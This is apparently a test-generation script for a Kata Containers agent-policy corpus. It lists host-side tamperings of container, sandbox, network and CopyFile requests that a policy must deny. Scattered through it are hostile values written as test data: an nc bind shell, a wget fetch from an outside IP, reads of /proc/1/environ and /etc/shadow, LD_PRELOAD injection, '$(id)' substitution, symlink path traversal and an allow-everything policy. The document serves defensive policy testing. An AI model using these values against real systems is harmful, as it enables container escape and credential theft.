#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Write (or --check) mutations.json: one-field changes to corpus steps a policy must deny.

Each mutation below picks its step by what it is (method, container, nth match, a
substring of a CopyFile path) rather than by number, so regenerating a lifecycle keeps
the mutations pointing at the right step; this script resolves them to the step
numbers mutations.json carries. Values may name the lifecycle's ids: {sandbox_id},
{pod_uid}, {cid:NAME}. "needs": "issue-18" marks a mutation of a field today's policy
language cannot check (or cannot check per container / per element): issue 18's items
2-5. Standard library only.
"""

import argparse
import json
import os
import re
import sys

import explain_corpus

HERE = os.path.dirname(os.path.abspath(__file__))
I18 = "issue-18"
BUSYBOX = "docker.io/library/busybox@sha256:db835743227766b00738100d9da7282831bfc8d264de4c2ebd5431dae6b7494f"
ALPINE = "docker.io/library/alpine@sha256:ba3284d37a960e6eff4a47fcdc07aa941c80485e37169c97ce454b85a15cd017"
CAPS_ADMIN = {"Bounding": ["CAP_SYS_ADMIN"], "Effective": ["CAP_SYS_ADMIN"], "Permitted": ["CAP_SYS_ADMIN"]}
EVIL_REGO = ("package agent_policy\n\ndefault CreateContainerRequest := true\n"
             "default ExecProcessRequest := true\ndefault CopyFileRequest := true\n")

W4, WR, WD = "web/go-shim-ipv4.json", "web/runtime-rs-ipv4.json", "web/go-shim-dual-stack.json"
SC, SR, LK = "sidecar/go-shim-ipv4.json", "sidecar/runtime-rs-ipv4.json", "locked/go-shim-ipv4.json"
VG, VR = "volumes/go-shim-dual-stack.json", "volumes/runtime-rs-dual-stack.json"
ED, DG, DR = "emptydir/go-shim-ipv4.json", "deployment/go-shim-ipv4.json", "deployment/runtime-rs-ipv4.json"


def m(file, sel, path, op, value, why, needs=None):
    return {"file": file, "sel": sel, "path": path, "op": op, "value": value, "why": why,
            "needs": needs}


def cc(name):
    return {"method": "CreateContainer", "container": name}


MUTATIONS = [
    # --- CreateContainer: what runs ------------------------------------------------------
    m(W4, cc("nginx"), "storages[0].source", "set", BUSYBOX,
      "another image: the guest pulls and runs busybox in nginx's place"),
    m(W4, cc("nginx"), "storages[0].source", "set", "docker.io/nginxinc/nginx-unprivileged:1.27.3",
      "the tag instead of the digest: whatever the registry serves today is pulled"),
    m(DG, cc("redis"), "storages[0].source", "set", "redis:7.4.2",
      "the Deployment's image by tag only, unpinned"),
    m(W4, cc("nginx"), 'OCI.Annotations["io.kubernetes.cri.image-name"]', "set", BUSYBOX,
      "the image-name annotation disagrees with the pinned image (the agent and its policy read it)"),
    m(W4, cc("nginx"), "storages[0].driver_options[0]", "set",
      'image_guest_pull={"metadata":{"io.kubernetes.cri.container-type":"sandbox"}}',
      "metadata saying sandbox: the agent mounts its pause bundle instead of the pinned image "
      "and replaces the container's process with the pause bundle's"),
    m(W4, cc("pause"), "storages[0].driver_options[0]", "set",
      'image_guest_pull={"metadata":{"io.kubernetes.cri.container-type":"container"}}',
      "metadata no longer saying sandbox: the agent pulls the image named \"pause\" from a "
      "registry instead of using its built-in bundle"),
    m(W4, cc("pause"), "storages[0].source", "set", BUSYBOX,
      "the sandbox's image storage names an image instead of \"pause\""),
    m(W4, cc("nginx"), "storages[0].driver_options[0]", "set",
      'image_guest_pull={"metadata":{"io.kubernetes.cri.container-type":"container",'
      '"io.kubernetes.cri-o.ContainerType":"sandbox"}}',
      "CRI-O's container-type key saying sandbox: the agent reads either key"),
    m(W4, cc("pause"), "storages[0].driver_options[0]", "set",
      'image_guest_pull={"metadata":{"io.kubernetes.cri.container-type":"container",'
      '"io.kubernetes.cri.container-type":"sandbox"}}',
      "the container-type key twice: serde keeps the last, a first-match reader the first"),
    m(W4, cc("pause"), "storages[0].driver_options", "add", "image_guest_pull={\"metadata\":{}}",
      "a second pull option: the agent reads only the first"),
    m(W4, cc("nginx"), "storages[0].fs_group", "set", {"group_id": 0},
      "the image's files handed to group root"),
    m(W4, cc("nginx"), "storages[0].shared", "set", True, "the image storage marked shared"),
    m(SC, cc("app"), "storages[1].fs_group", "set", {"group_id": 0, "group_change_policy": "OnRootMismatch"},
      "the emptyDir's files handed to group root"),
    m(W4, cc("nginx"), "storages[0].mount_point", "set", "/run/kata-containers/{sandbox_id}/rootfs",
      "the image is mounted over the pause container's root filesystem"),
    m(W4, cc("nginx"), "storages[0].fstype", "set", "bind",
      "the image storage's fstype changed"),
    m(W4, cc("nginx"), "storages", "add",
      {"driver": "virtio-fs", "source": "kataShared", "fstype": "virtiofs",
       "mount_point": "/run/kata-containers/shared/containers/{cid:nginx}"},
      "an extra storage: a host-controlled virtio-fs share inside the guest"),
    m(W4, cc("nginx"), "OCI.Process.Args[0]", "set", "/bin/sh", "another program runs"),
    m(W4, cc("nginx"), "OCI.Process.Args", "add", "-c", "an argument added"),
    m(DG, cc("redis"), "OCI.Process.Args[2]", "set", "/tmp/dump.rdb",
      "an empty argument replaced (redis would now save the dataset to a file)"),
    m(ED, cc("seed"), "OCI.Process.Args[2]", "set", "wget -O /html/index.html http://198.51.100.7/",
      "the init container's script replaced"),
    m(W4, cc("nginx"), "OCI.Process.Env", "add", "LD_PRELOAD=/tmp/x.so",
      "an environment variable added"),
    m(W4, cc("nginx"), "OCI.Process.Env[2]", "set", "NGINX_VERSION=$(id)",
      "an image variable's value changed beyond what the policy allows"),
    m(VG, cc("reader"), "OCI.Process.Env", "add", "APP_CONFIG=/etc/secret/password",
      "a pod variable given a second, different value"),
    m(W4, cc("nginx"), "OCI.Process.User.UID", "set", 0, "runs as root"),
    m(W4, cc("nginx"), "OCI.Process.User.AdditionalGids", "add", 0, "joins the root group"),
    m(W4, cc("nginx"), "OCI.Process.User.Username", "set", "root",
      "a user name for the agent to resolve in the guest"),
    m(W4, cc("nginx"), "string_user", "set", {"uid": "root"},
      "a string user for the agent to resolve in the guest"),
    m(W4, cc("nginx"), "OCI.Process.Capabilities", "set", CAPS_ADMIN, "CAP_SYS_ADMIN granted"),
    m(DG, cc("redis"), "OCI.Process.Capabilities", "set",
      {"Bounding": ["CAP_NET_RAW"], "Effective": ["CAP_NET_RAW"], "Permitted": ["CAP_NET_RAW"]},
      "a capability the pod dropped is given back"),
    m(W4, cc("nginx"), "OCI.Process.NoNewPrivileges", "remove", None,
      "privilege escalation allowed again (setuid binaries work)"),
    m(W4, cc("nginx"), "OCI.Process.Terminal", "set", True, "a terminal the host controls"),
    m(W4, cc("nginx"), "OCI.Process.Cwd", "set", "/tmp", "another working directory"),
    m(W4, cc("nginx"), "OCI.Process.ApparmorProfile", "set", "unconfined",
      "AppArmor profile other than the runtime's"),
    m(W4, cc("nginx"), "OCI.Process.SelinuxLabel", "set", "system_u:system_r:spc_t:s0",
      "an SELinux label chosen by the host"),
    m(W4, cc("nginx"), "OCI.Process.Rlimits", "set",
      [{"Type": "RLIMIT_CORE", "Hard": "18446744073709551615", "Soft": "18446744073709551615"}],
      "rlimits chosen by the host"),
    m(W4, cc("nginx"), "OCI.Process.OOMScoreAdj", "set", -1000,
      "the container can no longer be OOM-killed"),
    m(W4, cc("nginx"), "OCI.Hostname", "set", "db", "another hostname"),
    m(LK, cc("worker"), "OCI.Root.Readonly", "remove", None,
      "the read-only root filesystem becomes writable"),
    m(W4, cc("nginx"), "OCI.Root.Path", "set", "/run/kata-containers/{sandbox_id}/rootfs",
      "the container runs in the pause container's root filesystem"),
    # --- CreateContainer: mounts, namespaces, cgroups, devices ----------------------------
    m(W4, cc("nginx"), "OCI.Mounts", "add",
      {"destination": "/host", "source": "/", "type": "bind", "options": ["rbind", "rw"]},
      "a mount added: the guest's root filesystem inside the container"),
    m(W4, cc("nginx"), "OCI.Mounts[{mount:/etc/hosts}].source", "set", "/run/kata-containers/sandbox",
      "/etc/hosts bound from another guest path (every container's shm and storage)"),
    m(W4, cc("nginx"), "OCI.Mounts[{mount:/dev/shm}].source", "set", "/run/kata-containers/shared/containers",
      "/dev/shm bound from the directory of every container's copied files"),
    m(W4, cc("nginx"), "OCI.Mounts[{mount:/sys/fs/cgroup}].options[4]", "set", "rw",
      "the cgroup filesystem writable"),
    m(W4, cc("nginx"), "OCI.Mounts[{mount:/sys/fs/cgroup}].options", "add", "exec",
      "the cgroup filesystem with an option no kernel adds (exec)"),
    m(W4, cc("nginx"), "OCI.Mounts[{mount:/sys}].options[3]", "set", "rw", "sysfs writable"),
    m(SC, cc("log-shipper"), "OCI.Mounts[{mount:/logs}].options[2]", "set", "rw",
      "the shipper may write into the app's log volume"),
    m(SC, cc("app"), "storages[1].driver_options", "remove", None,
      "the emptyDir disk is no longer encrypted (and not formatted): its contents land in "
      "a file on the host in clear"),
    m(SC, cc("app"), "storages[1].shared", "remove", None,
      "the emptyDir storage no longer shared between the pod's containers"),
    m(ED, cc("server"), "OCI.Mounts[{mount:/usr/share/nginx/html}].source", "set", "/run/kata-containers/shared/containers/{cid:writer}-0000000000000000-hosts",
      "the shared emptyDir replaced by another container's file"),
    m(W4, cc("nginx"), "OCI.Linux.CgroupsPath", "set",
      "kubepods-besteffort-pod{pod_uid_}.slice:cri-containerd:{sandbox_id}",
      "the container put into the pause container's cgroup"),
    m(W4, cc("nginx"), "OCI.Linux.CgroupsPath", "set", "system.slice:cri-containerd:{cid:nginx}",
      "the container put outside kubepods"),
    m(W4, cc("nginx"), "OCI.Linux.Namespaces", "add", {"Type": "pid", "Path": "/proc/1/ns/pid"},
      "joins the guest's init pid namespace (sees the agent and ccgate)"),
    m(W4, cc("nginx"), "OCI.Linux.Namespaces", "add", {"Type": "network", "Path": "/proc/1/ns/net"},
      "joins the guest's own network namespace"),
    m(W4, cc("nginx"), "sandbox_pidns", "set", True,
      "shares the sandbox pid namespace: sees every other container's processes"),
    m(W4, cc("nginx"), "OCI.Linux.MaskedPaths[2]", "remove", None, "/proc/kcore unmasked"),
    m(W4, cc("nginx"), "OCI.Linux.ReadonlyPaths[3]", "remove", None, "/proc/sys writable"),
    m(W4, cc("nginx"), "OCI.Linux.Devices", "set",
      [{"Path": "/dev/mem", "Type": "c", "Major": 1, "Minor": 1, "FileMode": 8592}],
      "guest physical memory as a device"),
    m(W4, cc("nginx"), "devices", "set",
      [{"id": "vda", "type": "blk", "vm_path": "/dev/vda", "container_path": "/dev/vda"}],
      "the guest's root disk given to the container"),
    m(W4, cc("nginx"), "OCI.Linux.Resources.Devices", "set", [{"Allow": True, "Access": "rwm"}],
      "device cgroup opened for every device"),
    m(W4, cc("nginx"), 'OCI.Linux.Sysctl["kernel.core_pattern"]', "set", "|/tmp/x",
      "a sysctl chosen by the host (core dumps piped to a program)"),
    m(W4, cc("nginx"), "OCI.Hooks", "set", {"Prestart": [{"Path": "/bin/sh", "Args": ["sh", "-c", "id"]}]},
      "a hook the agent would run in the guest"),
    m(W4, cc("nginx"), "OCI.Linux.RootfsPropagation", "set", "rshared",
      "mounts propagate out of the container"),
    m(W4, cc("nginx"), "OCI.Linux.UIDMappings", "set", [{"HostID": 0, "ContainerID": 101, "Size": 1}],
      "id mappings chosen by the host"),
    m(W4, cc("nginx"), "shared_mounts", "set",
      [{"name": "x", "src_ctr": "pause", "src_path": "/", "dst_ctr": "nginx", "dst_path": "/mnt"}],
      "a path of another container shared into this one"),
    m(W4, cc("nginx"), 'OCI.Annotations["io.kubernetes.cri.container-name"]', "set", "debugger",
      "a container the pod does not have (kubectl debug)"),
    m(W4, cc("nginx"), 'OCI.Annotations["io.katacontainers.config.agent.policy"]', "set", "ZGVmYXVsdCBFeGVjUHJvY2Vzc1JlcXVlc3QgOj0gdHJ1ZQo=",
      "an annotation the pod does not have"),
    m(W4, cc("nginx"), "exec_id", "set", "00000000-0000-4000-8000-000000000000",
      "the init process's exec id differs from the container id"),
    m(W4, cc("nginx"), "stdout_port", "set", 1025,
      "container output over a host vsock port (passfd I/O), around the gate"),
    m(W4, cc("nginx"), "OCI.Linux.Resources.Memory", "set", {"Limit": 4096},
      "memory limit chosen by the host"),
    m(W4, cc("nginx"), "stdin_port", "set", 1026,
      "container input from a host vsock port (passfd I/O), around the gate"),
    m(W4, cc("nginx"), "OCI.Linux.Resources.Pids", "set", {"Limit": 1},
      "a pids limit chosen by the host: the container cannot fork"),
    m(W4, cc("nginx"), "OCI.Linux.Resources.CPU.Cpus", "set", "0",
      "the container pinned to a CPU of the host's choice"),
    m(W4, cc("nginx"), "OCI.Process.ConsoleSize", "set", {"Height": 24, "Width": 80},
      "a console size for a process without a terminal"),
    m(W4, cc("nginx"), "OCI.Linux.Seccomp", "set", {"DefaultAction": "SCMP_ACT_ALLOW"},
      "a seccomp profile of the host's choice where the policy (as genpolicy) wants none"),
    m(W4, cc("pause"), "OCI.Hostname", "set", "db", "the sandbox's hostname changed"),
    m(W4, cc("pause"), "OCI.Process.OOMScoreAdj", "set", -1000,
      "the pause container can no longer be OOM-killed"),
    m(WR, {"method": "ExecProcess"}, "process.OOMScoreAdj", "set", -1000,
      "runtime-rs's exec'd probe out of the OOM killer's reach"),
    m(W4, {"method": "ExecProcess"}, "stdout_port", "set", 1025,
      "the probe's output over a host vsock port (passfd I/O), around the gate"),
    m(W4, {"method": "ExecProcess"}, "process.Rlimits", "set",
      [{"Type": "RLIMIT_NOFILE", "Hard": "1", "Soft": "1"}], "rlimits chosen by the host for the probe"),
    # --- the sandbox ----------------------------------------------------------------------
    m(W4, {"method": "CreateSandbox"}, "storages", "add",
      {"driver": "virtio-fs", "source": "kataShared", "fstype": "virtiofs", "options": ["nodev"],
       "mount_point": "/run/kata-containers/sandbox/shm"},
      "a host share mounted where every container's /dev/shm comes from"),
    m(W4, {"method": "CreateSandbox"}, "storages[0].options[0]", "set", "exec",
      "the sandbox shm executable"),
    m(W4, {"method": "CreateSandbox"}, "dns", "add", "nameserver 198.51.100.53",
      "a nameserver the host chose"),
    m(W4, {"method": "CreateSandbox"}, "hostname", "set", "other", "another hostname"),
    m(W4, {"method": "CreateSandbox"}, "guest_hook_path", "set", "/usr/share/oci/hooks",
      "guest hooks the agent would run"),
    m(W4, {"method": "CreateSandbox"}, "kernel_modules", "set", [{"name": "evil"}],
      "a kernel module the agent would load"),
    m(W4, {"method": "CreateSandbox"}, "sandbox_pidns", "set", True,
      "one pid namespace for the whole pod"),
    m(W4, {"method": "CreateSandbox"}, "storages", "add",
      {"driver": "virtio-fs", "source": "kataShared", "fstype": "virtiofs", "options": ["nodev"],
       "mount_point": "/usr/local/bin"},
      "a host share mounted over the guest's /usr/local/bin"),
    m(W4, {"method": "CreateSandbox"}, "storages[0].mount_point", "set", "/run/kata-containers/shared",
      "the shm tmpfs mounted over kata's shared directory"),
    m(W4, {"method": "CreateSandbox"}, "storages[0].driver", "set", "local",
      "the sandbox storage with another driver"),
    m(W4, {"method": "CreateSandbox"}, "storages[0].shared", "set", True,
      "the sandbox storage marked shared"),
    m(W4, {"method": "CreateSandbox"}, "storages[0].fs_group", "set", {"group_id": 1000},
      "the sandbox storage handed to a group"),
    m(W4, {"method": "CreateSandbox"}, "dns[1]", "set", "nameserver 10.96.0.10\nnameserver 198.51.100.53",
      "a second nameserver inside one dns element (the agent joins them with newlines)"),
    m(W4, {"method": "CreateSandbox"}, "dns", "add", "search attacker.example",
      "a search domain the host chose"),
    m(W4, {"method": "CreateSandbox"}, "sandbox_id", "set", "../../etc",
      "a sandbox id that is a path"),
    # --- network ---------------------------------------------------------------------------
    m(W4, {"method": "UpdateInterface"}, "interface.hwAddr", "set", "0a:58:0a:f4:01:63",
      "the agent picks another link by this MAC and renames it eth0"),
    m(W4, {"method": "UpdateInterface"}, "interface.name", "set", "eth1", "the link renamed"),
    m(W4, {"method": "UpdateInterface"}, "interface.IPAddresses[0].address", "set", "192.0.2.10",
      "an address outside the pod network"),
    m(W4, {"method": "UpdateInterface"}, "interface.IPAddresses", "add",
      {"address": "169.254.169.254", "mask": "32"}, "an extra address: the cloud metadata service's"),
    m(W4, {"method": "UpdateInterface"}, "interface.IPAddresses[0].mask", "set", "1",
      "a /1 prefix: half the internet on-link"),
    m(W4, {"method": "UpdateInterface"}, "interface.mtu", "set", 68, "an MTU chosen by the host"),
    m(W4, {"method": "UpdateInterface"}, "interface.raw_flags", "set", 256,
      "IFF_PROMISC: the guest link sniffs"),
    m(W4, {"method": "UpdateInterface"}, "interface.IPAddresses", "set", [],
      "every address removed (a per-element matcher is vacuously true)"),
    m(WD, {"method": "UpdateInterface"}, "interface.IPAddresses[1].address", "set", "2001:db8::7",
      "an IPv6 address outside the pod network"),
    m(W4, {"method": "UpdateRoutes"}, "routes.Routes", "add",
      {"dest": "10.96.0.0/12", "gateway": "10.244.1.66", "device": "eth0"},
      "an extra route: Service traffic to a host-chosen gateway"),
    m(W4, {"method": "UpdateRoutes"}, "routes.Routes[0].device", "set", "lo", "routes via lo"),
    m(W4, {"method": "UpdateInterface"}, "interface.type", "set", "macvlan", "another link type"),
    m(W4, {"method": "UpdateInterface"}, "interface.devicePath", "set", "not/a/pci/path",
      "a device path that is not a PCI path"),
    m(W4, {"method": "UpdateRoutes"}, "routes.Routes[0].gateway", "set", "192.0.2.1",
      "the default route via a gateway outside the pod network"),
    m(W4, {"method": "UpdateRoutes"}, "routes.Routes[0].scope", "set", 253,
      "the default route with link scope: every address on-link"),
    m(W4, {"method": "UpdateRoutes"}, "routes.Routes[0].source", "set", "127.0.0.1",
      "a route with a loopback source"),
    m(W4, {"method": "UpdateRoutes"}, "routes.Routes[0].flags", "set", 4, "RTNH_F_ONLINK set"),
    m(W4, {"method": "UpdateRoutes"}, "routes.Routes[0].mtu", "set", 68, "a route MTU the host chose"),
    m(W4, {"method": "UpdateRoutes"}, "routes.Routes[0].dest", "set", "10.96.0.0/12",
      "the Service network routed through the pod's gateway instead of the default route"),
    m(WD, {"method": "AddARPNeighbors"}, "neighbors.ARPNeighbors[0].lladdr", "set", "01:00:5e:00:00:01",
      "the gateway's neighbour with a multicast MAC"),
    m(WD, {"method": "AddARPNeighbors"}, "neighbors.ARPNeighbors[0].lladdr", "set", "0a:58:0a:f4:01:63",
      "the gateway's address answered by another pod's MAC"),
    m(WD, {"method": "AddARPNeighbors"}, "neighbors.ARPNeighbors[0].state", "set", 0,
      "state 0: the agent makes the neighbour permanent"),
    m(WD, {"method": "AddARPNeighbors"}, "neighbors.ARPNeighbors[0].toIPAddress.address", "set",
      "169.254.169.254", "a neighbour for the cloud metadata address"),
    m(WD, {"method": "AddARPNeighbors"}, "neighbors.ARPNeighbors[0].toIPAddress.mask", "set", "8",
      "a neighbour with a mask"),
    m(WD, {"method": "AddARPNeighbors"}, "neighbors.ARPNeighbors[0].device", "set", "lo",
      "a neighbour on lo"),
    m(WD, {"method": "AddARPNeighbors"}, "neighbors.ARPNeighbors[0].flags", "set", 1,
      "NTF_USE: a neighbour flag outside the allowed ones"),
    m(WD, {"method": "AddARPNeighbors"}, "neighbors.ARPNeighbors", "add",
      {"toIPAddress": {"address": "10.96.0.10"}, "device": "eth0", "lladdr": "0a:58:0a:f4:01:63", "state": 128},
      "a permanent neighbour for the cluster DNS address"),
    # --- exec and streams ------------------------------------------------------------------
    m(W4, {"method": "ExecProcess"}, "process.Args", "set", ["/bin/sh"], "kubectl exec of a shell"),
    m(W4, {"method": "ExecProcess"}, "process.Args", "add", "/etc/shadow", "the probe's argv extended"),
    m(W4, {"method": "ExecProcess"}, "process.Terminal", "set", True, "the probe with a terminal"),
    m(W4, {"method": "ExecProcess"}, "process.User.UID", "set", 0, "the probe as root"),
    m(W4, {"method": "ExecProcess"}, "process.Env", "add", "LD_PRELOAD=/tmp/x.so",
      "an environment variable added to the probe"),
    m(WR, {"method": "ExecProcess"}, "process.Capabilities", "set", CAPS_ADMIN,
      "the probe with CAP_SYS_ADMIN (runtime-rs sends the exec's capabilities)"),
    m(ED, {"method": "ExecProcess"}, "process.Args[2]", "set", "cat /proc/1/environ",
      "the readiness probe's shell command replaced"),
    m(W4, {"method": "ExecProcess"}, "container_id", "set", "{sandbox_id}",
      "the probe run in the pause container"),
    m(W4, {"method": "ReadStdout", "exec": True}, "exec_id", "set", "6b1e2f00-0000-4000-8000-000000000001",
      "reads the output of a process the policy did not start"),
    m(W4, {"method": "ReadStdout"}, "container_id", "set", "{sandbox_id}0",
      "reads from a container that does not exist"),
    m(W4, {"method": "StartContainer", "container": "nginx"}, "container_id", "set",
      "0000000000000000000000000000000000000000000000000000000000000000",
      "starts a container that was never created"),
    # --- CopyFile --------------------------------------------------------------------------
    m(W4, {"method": "CopyFile", "path": "-hosts"}, "path", "set", "/etc/ld.so.preload",
      "a kubelet file written outside the shared directory"),
    m(W4, {"method": "CopyFile", "path": "-hosts"}, "path", "set",
      "/run/kata-containers/{cid:nginx}/rootfs/etc/hosts", "written into the container's root filesystem"),
    m(W4, {"method": "CopyFile", "path": "-resolv.conf", "nth": 1}, "path", "set",
      "/run/kata-containers/shared/containers/../../{cid:nginx}/rootfs/etc/resolv.conf",
      "a path with .. escaping the shared directory"),
    m(W4, {"method": "CopyFile", "path": "-hosts"}, "file_mode", "set", 35309,
      "a setuid executable (04755)"),
    m(W4, {"method": "CopyFile", "path": "-hosts"}, "file_mode", "set", 0,
      "no file-type bits: the agent takes it as a regular file; kata's policy refuses it"),
    m(W4, {"method": "CopyFile", "path": "-hosts"}, "uid", "set", 101,
      "the file handed to the container's user"),
    m(W4, {"method": "CopyFile", "path": "-hosts"}, "offset", "set", 1048576,
      "an offset beyond the data (a sparse, grown file)"),
    m(W4, {"method": "CopyFile", "path": "-hosts"}, "dir_mode", "set", 511,
      "parent directories created world-writable"),
    m(W4, {"method": "CopyFile", "path": "-hosts"}, "gid", "set", 101,
      "the file handed to the container's group"),
    m(W4, {"method": "CopyFile", "path": "-hosts"}, "file_size", "set", 16,
      "a size smaller than the data: the agent never renames the temporary file into place"),
    m(W4, {"method": "CopyFile", "path": "-hosts"}, "dir_mode", "set", 2147484152,
      "parent directories created group-writable (ModeDir|0770)"),
    m(VR, {"method": "CopyFile", "path": "-app/..data"}, "file_size", "set", 4096,
      "runtime-rs: a symlink whose size is not its target's length"),
    m(VG, {"method": "CopyFile", "path": "-secret", "nth": 0}, "data", "set", "eA==",
      "a directory that carries data"),
    m(VG, {"method": "CopyFile", "path": "-secret/password"}, "data", "set", "Li4vLi4vLi4vLi4vLi4vZXRjL3NoYWRvdw==",
      "the secret's symlink now points up and out (../../../../../etc/shadow)"),
    m(VG, {"method": "CopyFile", "path": "-app/..data"}, "data", "set", "L2V0Yw==",
      "the ..data symlink made absolute (/etc)"),
    m(VR, {"method": "CopyFile", "path": "serviceaccount/..2026_08_22_10_15_03.3381549720/token"}, "path", "set",
      "/run/kata-containers/shared/containers/{sandbox_id}-0000000000000000-resolv.conf/token",
      "runtime-rs: a token file written under another container's (the pause's) file"),
    # --- policy ----------------------------------------------------------------------------
    m(DG, {"method": "SetPolicy"}, "policy", "set", EVIL_REGO, "another agent policy installed"),
    m(DR, cc("redis"), 'OCI.Annotations["io.katacontainers.config.agent.policy"]', "set",
      "ZGVmYXVsdCBFeGVjUHJvY2Vzc1JlcXVlc3QgOj0gdHJ1ZQo=",
      "runtime-rs passes this annotation on: another agent policy in the container's annotations"),
    # --- the other pods and runtime-rs ---------------------------------------------------
    m(WR, cc("nginx"), "storages[0].source", "set", BUSYBOX, "runtime-rs: another image"),
    m(WR, cc("nginx"), "OCI.Linux.Namespaces", "add", {"Type": "pid", "Path": "/proc/1/ns/pid"},
      "runtime-rs: joins the guest's init pid namespace"),
    m(WR, cc("nginx"), "OCI.Linux.Namespaces[3]", "remove", None,
      "runtime-rs: the cgroup namespace dropped (the container sees the guest's cgroup tree)"),
    m(WR, {"method": "ReadStdout", "exec": True}, "exec_id", "set",
      "0000000000000000000000000000000000000000000000000000000000000001",
      "runtime-rs: reads the output of a process the policy did not start"),
    m(SC, cc("log-shipper"), "OCI.Process.Args[6]", "set", "http",
      "the shipper sends the logs elsewhere"),
    m(SR, cc("app"), "storages[1].mount_point", "set", "/run/kata-containers/sandbox/shm",
      "runtime-rs: the emptyDir disk mounted over the sandbox shm"),
    m(SR, cc("log-shipper"), "storages[0].source", "set", ALPINE, "runtime-rs: the shipper's image swapped"),
    m(LK, cc("worker"), "OCI.Process.Args[2]", "set", "nc -l -p 4444 -e /bin/sh",
      "the worker's script replaced"),
    m(LK, cc("worker"), "OCI.Process.Env", "add", "LD_LIBRARY_PATH=/tmp",
      "an environment variable added: libraries loaded from a writable directory"),
    m(LK, {"method": "CreateSandbox"}, "hostname", "set", "web", "another pod's hostname"),
    m(ED, cc("seed"), "storages[0].source", "set", ALPINE, "the init container's image swapped"),
    m(ED, cc("writer"), "OCI.Mounts[{mount:/html}].source", "set", "/run/kata-containers/shared/containers",
      "the writer's volume replaced by the directory of every container's copied files"),
    m(VG, cc("reader"), "OCI.Mounts[{mount:/etc/secret}].options[2]", "set", "rw",
      "the secret volume writable"),
    m(VR, {"method": "CopyFile", "path": "-app/app.conf"}, "data", "set", "L2V0Yy9zaGFkb3c=",
      "runtime-rs: a configMap key's symlink made absolute (/etc/shadow)"),
    m(DR, {"method": "CopyFile", "path": "-data"}, "path", "set",
      "/run/kata-containers/{cid:redis}/rootfs/data",
      "runtime-rs: the image volume created inside the root filesystem"),
]


def resolve(doc, file, sel):
    ids = doc["ids"]
    names = dict(ids["containers"], pause=ids["sandbox_id"])
    hits = []
    for n, s in enumerate(doc["steps"]):
        if s["method"] != sel["method"]:
            continue
        msg = s["message"]
        if "container" in sel:
            want = names[sel["container"]]
            cid = msg.get("container_id")
            if s["method"] == "CreateContainer":
                anno = msg["OCI"]["Annotations"]
                if sel["container"] == "pause":
                    if anno.get("io.kubernetes.cri.container-type") != "sandbox":
                        continue
                elif anno.get("io.kubernetes.cri.container-name") != sel["container"]:
                    continue
            elif cid != want:
                continue
        if "path" in sel and sel["path"] not in msg.get("path", ""):
            continue
        if sel.get("exec") and msg.get("exec_id") in (None, msg.get("container_id")):
            continue
        hits.append(n)
    nth = sel.get("nth", 0)
    if len(hits) <= nth:
        raise SystemExit("gen_mutations: %s: no step matches %r" % (file, sel))
    return hits[nth]


def mount_index(step, dest):
    for i, mnt in enumerate(step["message"]["OCI"]["Mounts"]):
        if mnt["destination"] == dest:
            return i
    raise SystemExit("gen_mutations: no mount at %s" % dest)


def expand(value, ids):
    if isinstance(value, str):
        def sub(mo):
            k = mo.group(1)
            if k.startswith("cid:"):
                return ids["containers"][k[4:]]
            if k == "pod_uid_":
                return ids["pod_uid"].replace("-", "_")
            return ids[k]
        return re.sub(r"\{([a-z_]+(?::[a-z-]+)?)\}", sub, value)
    if isinstance(value, list):
        return [expand(v, ids) for v in value]
    if isinstance(value, dict):
        return {k: expand(v, ids) for k, v in value.items()}
    return value


def build():
    out = []
    docs = {}
    for mu in MUTATIONS:
        if mu["file"] not in docs:
            with open(os.path.join(HERE, mu["file"])) as f:
                docs[mu["file"]] = json.load(f)
        doc = docs[mu["file"]]
        n = resolve(doc, mu["file"], mu["sel"])
        path = re.sub(r"\{mount:([^}]+)\}", lambda mo: str(mount_index(doc["steps"][n], mo.group(1))),
                      mu["path"])
        rec = {"file": mu["file"], "step": n, "request": doc["steps"][n]["request"],
               "method": doc["steps"][n]["method"], "path": path, "op": mu["op"]}
        if mu["op"] != "remove":
            rec["value"] = expand(mu["value"], doc["ids"])
        rec["why"] = mu["why"]
        if mu["needs"]:
            rec["needs"] = mu["needs"]
        before = doc["steps"][n]["message"]
        after = explain_corpus.apply_mutation(before, rec["path"], rec["op"], rec.get("value"))
        if after == before:
            raise SystemExit("gen_mutations: %s step %d %s changes nothing" % (rec["file"], n, rec["path"]))
        out.append(rec)
    return {"comment": [
        "One-field changes to steps of the traffic corpus that a policy for the pod must deny.",
        "file: the lifecycle; step: index into its steps (0-based); request/method: that step's;",
        "path: .proto field names joined by '.', [N] for an element, [\"key\"] for a map key;",
        "op: set (replace or create), add (append to an array, or create a missing key),",
        "remove (delete the element or key); value: JSON in the lifecycle's form (bytes base64).",
        "needs: issue-18 when today's policy language cannot check that field (issue 18, items 2-5).",
        "Decide a mutated step with the state its unmutated step is decided with (the earlier",
        "steps allowed): explain_corpus.py --mutations does that. Written by gen_mutations.py."],
        "mutations": out}


def main():
    ap = argparse.ArgumentParser(description="Write (or check) mutations.json.")
    ap.add_argument("--check", action="store_true", help="fail if mutations.json differs")
    args = ap.parse_args()
    text = json.dumps(build(), indent=2) + "\n"
    path = os.path.join(HERE, "mutations.json")
    if args.check:
        with open(path) as f:
            if f.read() != text:
                print("gen_mutations: mutations.json is not what this script gives", file=sys.stderr)
                return 1
        return 0
    with open(path, "w") as f:
        f.write(text)
    n = len(json.loads(text)["mutations"])
    print("mutations.json: %d mutations, %d need issue 18" % (
        n, sum(1 for x in json.loads(text)["mutations"] if x.get("needs"))))
    return 0


if __name__ == "__main__":
    sys.exit(main())
